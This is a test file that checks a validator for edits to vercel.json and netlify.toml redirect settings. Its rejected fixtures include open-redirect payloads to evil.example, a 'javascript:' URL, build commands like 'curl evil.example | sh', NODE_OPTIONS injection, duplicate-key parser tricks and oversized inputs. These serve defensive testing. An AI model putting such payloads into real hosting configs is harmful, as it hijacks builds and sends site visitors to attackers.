import { describe, expect, test } from 'vitest';
import { hostFileFault } from '../../../src/docs/own-files/host-file-change.ts';

const vercel = {
  buildCommand: 'npm run build',
  headers: [{ source: '/(.*)', headers: [{ key: 'X-Frame-Options', value: 'DENY' }] }],
  redirects: [
    { source: '/old', destination: '/guide/start', permanent: true },
    { source: '/in/:slug*', destination: '/guide/:slug*', permanent: true },
    { source: '/app', destination: 'https://app.example.com', permanent: false },
    { source: '/beta', destination: '/guide/beta', has: [{ type: 'host', value: 'beta.example.com' }] },
  ],
  rewrites: [{ source: '/api/:path*', destination: 'https://api.example.com/:path*' }],
};

const fresh = { source: '/guide/setup', destination: '/guide/install', permanent: true };

function changed(redirects: unknown[], others: object = {}) {
  return hostFileFault(
    'vercel.json',
    JSON.stringify(vercel, null, 2),
    JSON.stringify({ ...vercel, ...others, redirects }),
  );
}

const [first, second, third, fourth] = vercel.redirects;

describe('redirects of vercel.json', () => {
  test.each<[string, unknown[]]>([
    ['one that comes last', [...vercel.redirects, fresh]],
    ['one that comes first', [fresh, ...vercel.redirects]],
    [
      'one with status, query and anchor',
      [...vercel.redirects, { source: '/a', destination: '/b?c=d#e-f', statusCode: 308 }],
    ],
    ['one to the front page', [...vercel.redirects, { source: '/a', destination: '/' }]],
    ['a target in the site', [{ ...first, destination: '/guide/first-steps' }, second, third, fourth]],
    ['a target of one that asks for a host', [first, second, third, { ...fourth, destination: '/guide/preview' }]],
    ['one that goes', [second, third, fourth]],
    ['a pattern that goes, and one that comes', [first, fresh, third, fourth]],
  ])('may change: %s', (_, redirects) => {
    expect(changed(redirects)).toBeUndefined();
  });

  test.each<[string, unknown[]]>([
    ['to another host', [...vercel.redirects, { source: '/a', destination: 'https://evil.example' }]],
    ['to another host without protocol', [...vercel.redirects, { source: '/a', destination: '//evil.example' }]],
    ['to another host by a backslash', [...vercel.redirects, { source: '/a', destination: '/\\evil.example' }]],
    ['to another host by dots', [...vercel.redirects, { source: '/a', destination: '/..//evil.example' }]],
    ['to another host by escaped dots', [...vercel.redirects, { source: '/a', destination: '/%2e%2e/%2Fevil' }]],
    ['to another host by a tab', [...vercel.redirects, { source: '/a', destination: '/\t/evil.example' }]],
    ['to another host by a parameter', [...vercel.redirects, { source: '/a', destination: '/:host' }]],
    ['to code', [...vercel.redirects, { source: '/a', destination: 'javascript:alert(1)' }]],
    ['from a pattern', [...vercel.redirects, { source: '/:path*', destination: '/b' }]],
    ['from all', [...vercel.redirects, { source: '/(.*)', destination: '/b' }]],
    ['from the front page', [...vercel.redirects, { source: '/', destination: '/b' }]],
    ['from what hosts use themselves', [...vercel.redirects, { source: '/.well-known/a', destination: '/b' }]],
    ['with a condition', [...vercel.redirects, { ...fresh, has: [{ type: 'cookie', key: 'a' }] }]],
    ['with headers', [...vercel.redirects, { ...fresh, headers: [{ key: 'a', value: 'b' }] }]],
    ['that shows the other place', [...vercel.redirects, { source: '/a', destination: '/b', statusCode: 200 }]],
    ['with a flag that is none', [...vercel.redirects, { ...fresh, permanent: { a: 1 } }]],
    ['that is no object', [...vercel.redirects, 'a']],
  ])('none may be added %s', (_, redirects) => {
    expect(changed(redirects)).toBe('a redirect that comes must lead from one path of the site to another');
  });

  test.each<[string, unknown[]]>([
    ['another host takes a path of this one', [first, second, { ...third, destination: '/b' }, fourth]],
    ['another host is another', [first, second, { ...third, destination: 'https://evil.example' }, fourth]],
    ['a path becomes another host', [{ ...first, destination: 'https://evil.example' }, second, third, fourth]],
    ['one to another host goes', [first, second, fourth]],
    ['one with a condition goes', [first, second, third]],
    ['a condition goes', [first, second, third, { source: '/beta', destination: '/guide/beta' }]],
    ['one is before another that was after it', [first, second, fourth, third]],
  ])('existing ones may not change more: %s', (_, redirects) => {
    expect(changed(redirects)).toBeDefined();
  });

  test.each<[string, object]>([
    ['the build', { buildCommand: 'curl evil.example | sh' }],
    ['headers', { headers: [] }],
    ['rewrites', { rewrites: [{ source: '/(.*)', destination: 'https://evil.example/$1' }] }],
    ['functions', { functions: { 'api/*.js': { memory: 3008 } } }],
    ['environment', { env: { NODE_OPTIONS: '--require /tmp/a.js' } }],
    ['crons', { crons: [{ path: '/api/a', schedule: '* * * * *' }] }],
  ])('%s may not change along with them', (_, others) => {
    expect(changed([...vercel.redirects, fresh], others)).toBe('more than its redirects is changed');
  });

  test('a list may be added', () => {
    expect(
      hostFileFault('vercel.json', '{ "cleanUrls": true }', JSON.stringify({ cleanUrls: true, redirects: [fresh] })),
    ).toBeUndefined();
    expect(
      hostFileFault('vercel.json', '{ "routes": [] }', JSON.stringify({ routes: [], redirects: [fresh] })),
    ).toMatch(/routes/);
    expect(hostFileFault('vercel.json', '{}', '{ "redirects": { "source": "/a" } }')).toMatch(/no list/);
  });

  test('duplicate keys, of which parsers read different ones, are refused', () => {
    const before = '{ "env": { "A": "b" } }';
    for (const after of [
      '{ "env": { "A": "evil" }, "env": { "A": "b" } }',
      '{ "env": { "A": "evil", "A": "b" } }',
      '{ "\\u0065nv": {}, "env": { "A": "b" } }',
      '{ "env": { "A": "b" }, "redirects": [{ "source": "/a", "destination": "https://e.example", "destination": "/b" }] }',
    ])
      expect(hostFileFault('vercel.json', before, after)).toBe('it cannot be read any more');
    expect(
      hostFileFault('vercel.json', '{ "a": "x: \\" y: z" }', '{ "a": "x: \\" y: z", "redirects": [] }'),
    ).toBeUndefined();
  });

  test('an unreadable file may not change', () => {
    expect(hostFileFault('vercel.json', '{', '{}')).toBe('it cannot be read as it stands');
    expect(hostFileFault('vercel.json', '{}', '{')).toBe('it cannot be read any more');
    expect(hostFileFault('vercel.json', '[]', '[]')).toBe('it cannot be read as it stands');
    expect(hostFileFault('vercel.json', '{}', `{ "a": ${'['.repeat(200_000)}${']'.repeat(200_000)} }`)).toBe(
      'it cannot be read any more',
    );
    expect(hostFileFault('package.json', '{}', '{}')).toMatch(/no file of a host/);
    expect(hostFileFault('vercel.json', '{}', `{ "redirects": ["${'a'.repeat(1_000_000)}"] }`)).toMatch(/too large/);
    const many = Array.from({ length: 5001 }, () => fresh);
    expect(hostFileFault('vercel.json', '{}', JSON.stringify({ redirects: many }))).toMatch(/too many/);
  });
});

const netlify = `[build]
  command = "hugo"
[[redirects]]
  from = "/old"
  to = "/new"
[[redirects]]
  from = "/api/*"
  to = "https://api.example.com/:splat"
  status = 200
  force = true
[[headers]]
  for = "/*"
  [headers.values]
    X-Frame-Options = "DENY"
`;

function added(lines: string) {
  return hostFileFault('docs/netlify.toml', netlify, `${netlify}${lines}`);
}

describe('redirects of netlify.toml', () => {
  test.each([
    '[[redirects]]\n  from = "/a"\n  to = "/b"\n',
    '# What was renamed.\n[[redirects]]\n  from = "/a/"\n  to = "/b/#c"\n  status = 302\n',
  ])('may be added: %s', (lines) => {
    expect(added(lines)).toBeUndefined();
  });

  test.each([
    '[[redirects]]\n  from = "/*"\n  to = "/b"\n',
    '[[redirects]]\n  from = "/:a"\n  to = "/b"\n',
    '[[redirects]]\n  from = "/a"\n  to = "/.netlify/functions/b"\n',
    '[[redirects]]\n  from = "/a"\n  to = "/b"\n  status = 200\n',
    '[[redirects]]\n  from = "/a"\n  to = "/b"\n  status = 404\n',
    '[[redirects]]\n  from = "/a"\n  to = "/b"\n  force = true\n',
    '[[redirects]]\n  from = "/a"\n  to = "/b"\n  signed = "SECRET"\n',
    '[[redirects]]\n  from = "/a"\n  to = "/b"\n  conditions = {Role = ["admin"]}\n',
    '[[redirects]]\n  from = "/a"\n  to = "/b"\n  [redirects.headers]\n    X-Evil = "a"\n',
    '[[redirects]]\n  from = "https://example.com/a"\n  to = "/b"\n',
    '[[redirects]]\n  from = "/a"\n  to = "/b"\n[[plugins]]\n  package = "evil"\n',
    '[context.production]\n  command = "curl evil.example | sh"\n',
    '[build.environment]\n  NODE_OPTIONS = "--require a"\n',
    '[functions]\n  directory = "evil"\n',
  ])('may not be added: %s', (lines) => {
    expect(added(lines)).toBeDefined();
  });

  test.each([
    ['to = "/new"', 'to = "/newer"', true],
    ['to = "/new"', 'to = "https://evil.example"', false],
    ['from = "/old"', 'from = "/older"', true],
    ['api.example.com', 'evil.example', false],
    ['from = "/api/*"', 'from = "/*"', false],
    ['status = 200', 'status = 301', false],
    ['command = "hugo"', 'command = "sh evil"', false],
    ['[[redirects]]\n  from = "/old"\n  to = "/new"\n', '', true],
  ])('%s for %s: %s', (old, now, isAllowed) => {
    expect(hostFileFault('netlify.toml', netlify, netlify.replace(old, now)) === undefined).toBe(isAllowed);
  });
});
